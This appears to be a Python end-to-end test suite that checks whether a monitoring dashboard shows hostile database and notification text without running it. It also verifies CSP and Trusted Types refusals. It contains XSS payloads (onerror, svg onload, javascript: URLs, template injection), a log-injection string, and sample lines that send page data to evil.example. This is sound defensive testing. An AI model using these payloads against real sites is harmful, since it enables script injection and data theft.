"""Whatever the platform says is shown and never obeyed: not by a real browser with the policy on, and not by a log."""

from __future__ import annotations

import asyncio
import json
import re
from contextlib import asynccontextmanager, suppress

import asyncpg
import pytest
import socketio
from aiohttp import web
from playwright.async_api import Page, expect

from monitor.demo import schema
from monitor.demo.port import free_port
from tests.chromium import until
from tests.daemon import ALONE
from tests.sources.probes.servers import answer, says, serving

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(240)]
SHAPES = {
    "image": "<img src=x onerror=owned('{}')>",
    "script": '"><script>owned("{}")</script>',
    "vector": "'><svg/onload=owned('{}')>",
    "address": "javascript:owned('{}')",
    "frame": "<iframe srcdoc='<script>parent.owned(`{}`)</script>'>",
    "template": "{{{{constructor.constructor('owned(`{}`)')()}}}}${{owned('{}')}}",
    "style": '<b style="background:url(//{}.example/)" onmouseover=owned(1)>',
    "comment": "</script><!--<script>owned('{}')//",
}
LINE = '\n{"event": "check.changed", "level": "info", "check": "forged"}\u2028\r\x1b[2J\x85'
"""What makes a line of its own in a log that does not escape it."""
WATCH = """
window.hits = [];
window.owned = (what) => window.hits.push(`ran: ${what}`);
window.alert = window.owned;
document.addEventListener('securitypolicyviolation', (event) =>
  window.hits.push(`refused: ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
"""
FOREIGN = """() => {
  const places = /^(href|src|action|xlink:href|data)$/i, runs = /^\\s*(javascript|data|vbscript):/i;
  const odd = [];
  for (const one of document.querySelectorAll('*')) {
    for (const {name, value} of one.attributes)
      if (/^(on.*|srcdoc|style)$/i.test(name) || (places.test(name) && runs.test(value)))
        odd.push(`${one.tagName} ${name}=${value}`);
    if (['IMG', 'IFRAME', 'OBJECT', 'EMBED', 'BASE', 'FORM'].includes(one.tagName)) odd.push(one.outerHTML);
  }
  const scripts = [...document.scripts].filter((one) => one.id !== 'document' && !one.src);
  return odd.concat(scripts.map((one) => one.outerHTML));
}"""
"""What no page of ours holds: handlers, styles and frames, scripts in the text, addresses that run."""
PLACES = (
    "", "#/events", "#/cron", "#/services", "#/settings", "#/monitor", "#/cron/follow_up", "#/cron/retention_sweep",
    "#/settings/system.anthropic_model",
    *(f"#/checks/{name}" for name in (
        "db", "realtime", "triggers", "cluster_coverage", "recent_activity", "feature_flags", "message_throughput",
    )),
    "#/checks/<img src=x onerror=owned(1)>", "#/cron/%3Cimg%20src=x%20onerror=owned(1)%3E", "#/javascript:owned(1)",
)  # fmt: skip


async def watched(browser, language: str = "id-ID") -> Page:
    """Open a page on which everything that runs or is refused is noted."""
    context = await browser.new_context(locale=language, timezone_id="Asia/Jakarta")
    await context.add_init_script(WATCH)
    page = await context.new_page()
    page.told = []
    page.on("pageerror", lambda error: page.told.append(f"error: {error}"))
    page.on("console", lambda message: page.told.append(f"{message.type}: {message.text}"))
    page.on("dialog", lambda dialog: page.told.append(f"dialog: {dialog.message}"))
    return page


async def clean(page: Page) -> None:
    """See that nothing ran, nothing had to be refused, nothing was complained about, and nothing foreign is there."""
    assert await page.evaluate("window.hits") == []
    assert page.told == []
    assert await page.evaluate(FOREIGN) == []


# The alarm itself.


@pytest.mark.parametrize(
    ("deed", "word"),
    [
        ("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=owned(1)>')", "require-trusted-types-for"),
        ("document.body.innerHTML = '<b>x</b>'", "require-trusted-types-for"),
        ("document.body.setAttribute('onclick', 'owned(1)')", "require-trusted-types-for|script-src-attr"),
        ("document.body.setAttribute('style', 'color: red')", "style-src-attr"),
        (
            "document.head.append(Object.assign(document.createElement('style'), {textContent: 'b {}'}))",
            "style-src-elem",
        ),
        ("new Image().src = 'https://evil.example/?' + document.title", "img-src"),
        ("fetch('https://evil.example/').catch(() => 0)", "connect-src"),
        ("new WebSocket('wss://evil.example/')", "connect-src"),
        ("document.head.append(Object.assign(document.createElement('base'), {href: '//evil.example/'}))", "base-uri"),
        ("trustedTypes.createPolicy('mine', {createHTML: (x) => x})", "trusted-types"),
        ("trustedTypes.createPolicy('svelte-trusted-html', {createHTML: (x) => x})", "trusted-types"),
        ("setTimeout('owned(1)')", "require-trusted-types-for|script-src"),
        ("navigator.serviceWorker.register('/x.js').catch(() => 0)", "require-trusted-types-for|worker-src|script-src"),
    ],
)
async def test_alarm(browser, show_built, deed, word):
    """The browser refuses what a hole would be used for, and the alarm of these tests hears it."""
    page = await watched(browser)
    await page.goto(show_built)
    await page.wait_for_selector(".check#db")
    await clean(page)
    await page.evaluate(f"() => {{ try {{ {deed} }} catch (error) {{ window.caught = String(error) }} }}")
    await until(page, "window.hits.length > 0")
    hits = await page.evaluate("window.hits")
    assert all(re.match(f"refused: ({word})", hit) for hit in hits), hits
    await page.context.close()


@pytest.fixture
async def show_built(raise_built):
    """The address of the built page, over a board that knows nothing yet."""
    return (await raise_built()).url


@pytest.fixture
async def raise_built():
    """Raises a stage on the page as it was built."""
    from contextlib import AsyncExitStack

    from tests.outputs.conftest import Stage

    async with AsyncExitStack() as stack:

        async def start() -> Stage:
            stage = Stage(None, "/", 0)
            await stage.open(stack)
            return stage

        yield start


async def test_frames(browser, show_built):
    """A page of another origin, be it on this very machine, cannot frame ours, nor take anything of it for its own."""
    page = await watched(browser)
    body = f"<iframe src='{show_built}'></iframe>".encode()
    async with serving(says(answer(body, "200 OK", "Content-Type: text/html"))) as other:
        await page.goto(f"http://127.0.0.1:{other.port}/")
        async with asyncio.timeout(10):
            while not any("frame-ancestors" in text for text in page.told):
                await page.wait_for_timeout(50)
        take = "(url) => fetch(url, {mode: 'no-cors'}).then(() => 'taken', () => 'refused')"
        for path in ("", "api/v1/health/full", "favicon.svg"):
            assert await page.evaluate(take, show_built + path) == "refused"
    await page.context.close()


# What the platform says.


class Words:
    """Gives a text for each place of the platform, and remembers what must be shown of it."""

    def __init__(self, turn: int) -> None:
        self._turn = turn
        self.given: dict[str, str] = {}

    def __call__(self, place: str, most: int = 90) -> str:
        shapes = list(SHAPES.values())
        text = shapes[(self._turn + len(self.given)) % len(shapes)].format(*[place] * 2)
        text = text if len(text) <= most else f"<img src=x onerror=owned('{place}')>"[:most]
        self.given[place] = text
        return text


@asynccontextmanager
async def broker(words: str):
    """Let a broker refuse everybody with these words."""
    server = socketio.AsyncServer(async_mode="aiohttp", logger=False, engineio_logger=False)

    async def refuse(*_: object) -> None:
        raise socketio.exceptions.ConnectionRefusedError(words)

    server.on("connect", refuse)
    application = web.Application()
    server.attach(application)
    runner = web.AppRunner(application, access_log=None, shutdown_timeout=0.05)
    await runner.setup()
    port = free_port()
    await web.TCPSite(runner, "127.0.0.1", port).start()
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        await server.shutdown()
        await runner.cleanup()


def quoted(name: str) -> str:
    """Write an identifier (PostgreSQL 18, 4.1.1)."""
    return '"' + name.replace('"', '""') + '"'


async def poison(platform, words: Words) -> None:
    """Say it in every table, and every name, of the platform."""
    run = platform.connection.execute
    for job, word in (("follow_up", words("error_message")), ("retention_sweep", words("error_of_two") + LINE)):
        for minutes in (90, 60, 30, 1):
            await run(
                "insert into cron_runs (job, status, error_message, started_at, finished_at)"
                " values ($1, 'failed', $2, now() - make_interval(mins => $3), now() - make_interval(mins => $3))",
                job, word, minutes,
            )  # fmt: skip
    await run("insert into cron_runs (job, status) values ($1, 'running')", words("job") + LINE)
    await run("alter table cron_runs drop constraint if exists cron_runs_status_check")
    await run("insert into cron_runs (job, status) values ('embedding_refresh', $1)", words("status") + LINE)
    await run(
        "update system_settings set value = $1 where key = 'system.anthropic_model'", words("setting") + LINE
    )  # fmt: skip
    await run("insert into system_settings (key, value) values ($1, $2)", words("key") + LINE, words("other_value"))
    await run(
        "insert into audit_log (actor, action, subject, at, detail)"
        " select $1, 'setting.update', key, updated_at,"
        " jsonb_build_object('reason', $2::text, 'old', $3::text, 'new', $4::text) from system_settings",
        words("actor") + LINE, words("reason") + LINE, words("old") + LINE, words("new"),
    )  # fmt: skip
    await run("insert into clusters (id, name) values (77, $1)", words("cluster") + LINE)
    await run("update users set name = $1 where id = 11", words("counselor") + LINE)
    await run("update users set name = $1, is_active = false where id = 12", words("inactive_counselor"))
    await run("alter table messages drop constraint if exists messages_sender_type_check")
    await platform.write(words("sender", 60))
    # Names of the schema are at most 63 bytes long.
    function, table = words("function", 60), words("table", 60)
    await run(
        f"create function {quoted(function)}() returns trigger language plpgsql as"
        " $$ begin perform pg_notify('messages', row_to_json(new)::text); return null; end $$"
    )
    for name in ("messages", "conversations"):
        trigger = words(f"trigger_on_{name}", 60)
        await run(
            f"create trigger {quoted(trigger)} after insert on {name}"
            f" for each row execute function {quoted(function)}()"
        )
    [mine] = await platform.connection.fetch(
        "select tgname from pg_trigger where tgrelid = 'messages'::regclass and not tgisinternal"
        " and tgfoid = 'notify_message'::regproc limit 1"
    )
    await run(f"drop trigger {quoted(mine['tgname'])} on messages")
    await run(f"create trigger {quoted(mine['tgname'])} after insert on messages execute function {quoted(function)}()")
    await run(f"create table {quoted(table)} (n int)")
    await run(f"grant select on {quoted(table)} to {schema.MONITOR}")


@asynccontextmanager
async def session(dsn: str, name: str):
    connection = await asyncpg.connect(dsn, server_settings={"application_name": name})
    try:
        yield connection
    finally:
        connection.terminate()


@asynccontextmanager
async def contention(platform, words: Words):
    """Let somebody of this name hold a table that another one waits for, and the queue of signals."""
    name, table = words("application", 60), quoted(words.given["table"])
    async with session(platform.dsn, name) as holder, session(platform.dsn, name) as waiter:
        await holder.execute("listen elsewhere")
        await holder.execute(f"begin; listen elsewhere; lock table {table} in access exclusive mode")
        waiting = asyncio.get_running_loop().create_task(waiter.execute(f"select * from {table}"))
        for number in range(140):
            await platform.connection.execute("select pg_notify('elsewhere', $1)", f"{number} {'x' * 7000}")
        try:
            yield
        finally:
            waiting.cancel()
            with suppress(asyncio.CancelledError, asyncpg.PostgresError, asyncpg.InterfaceError, OSError):
                await waiting


async def signals(platform, words: Words) -> None:
    """Say it in the signals themselves, which anybody may send."""
    word = words("payload")
    for channel in ("messages", "conversations", "notifications"):
        for payload in (
            word, json.dumps({"table": word, "op": word, "id": word, "sender_type": word, word: word}), f'"{word}"',
        ):  # fmt: skip
            await platform.connection.execute("select pg_notify($1, $2)", channel, payload + LINE)


SHOWN = (
    "error_message", "error_of_two", "status", "setting", "key", "other_value", "cluster", "counselor",
    "inactive_counselor", "function", "table", "broker", "application", "flag", "actor", "reason", "old", "new",
)  # fmt: skip
"""The places whose words stand on the page whatever else is the matter; the others are told only where they are odd."""
FLAG_LINES = "BILINGUAL_ENABLED={}\nMAX_BOT_TURNS={}\nDEFAULT_LANGUAGE='{}'\n{}=1\n=\nHALF {}\n"


@pytest.mark.parametrize(("turn", "language"), [
    (0, "id-ID"), pytest.param(3, "en-US", marks=pytest.mark.prove), pytest.param(5, "en-US", marks=pytest.mark.prove),
])  # fmt: skip
async def test_nothing_is_obeyed(browser, platform, start_daemon, tmp_path, turn, language):  # noqa: PLR0917
    """Hostile words in every text that the platform can supply are shown as they are: nothing runs, nothing is refused.

    Neither do they make a line in the log.
    """
    words = Words(turn)
    await poison(platform, words)
    flag = words.given["flag"] = words("flag").replace("'", "")
    (tmp_path / "flags.env").write_text(FLAG_LINES.format(flag, flag, flag, flag, flag))
    async with broker(words("broker") + LINE) as url, contention(platform, words):
        daemon = await start_daemon(
            platform.monitor_dsn,
            services=ALONE,
            more=f'[broker]\nurl = "{url}"\nsecret = "{"s" * 32}"\n',
            limits="lock_wait_s = 1\nqueue_warn_pct = 0.005\nsweep_s = 5\nsample_s = 1",
        )
        follower = await daemon.settled()
        page = await watched(browser, language)
        # The stream brings what the first answer did not have, and the first answer what the stream has brought.
        await page.goto(daemon.address)
        await page.wait_for_selector('html[data-link="live"]')
        await signals(platform, words)
        await follower.until(lambda d: d["checks"]["db"]["detail"].get("queue_holder"), 15)
        await follower.until(lambda d: d["checks"]["db"]["detail"].get("blocked"), 15)
        await follower.until(lambda d: "broker" in json.dumps(d["checks"]["realtime"]), 15)
        shown = ""
        for _ in range(2):
            for place in PLACES:
                await page.goto(daemon.address + place)
                await expect(page.locator("h1").first).to_be_visible()
                await page.wait_for_selector('html[data-link="live"]')
                if "anthropic" in place:
                    await page.locator(".history summary").click()
                    await expect(page.locator(".changes li").first).to_be_visible()
                shown += await page.locator("body").inner_text() + await page.title()
                await clean(page)
            await page.reload()
        assert json.dumps(words.given["actor"])[1:20] in json.dumps(follower.document)
        hidden = {place for place in SHOWN if words.given[place][:24] not in shown}
        assert hidden == set(), "what is not shown proves nothing"
        await page.context.close()
        told, *lines = sorted(daemon.log.splitlines(), key=lambda line: line.startswith("{"))
        assert told == f"The page: {daemon.address}"
        events = [json.loads(line) for line in lines]
        assert all(set(event) >= {"event", "level", "at"} for event in events)
        assert not any(event.get("check") == "forged" for event in events)
        assert all(line.isprintable() for line in lines)
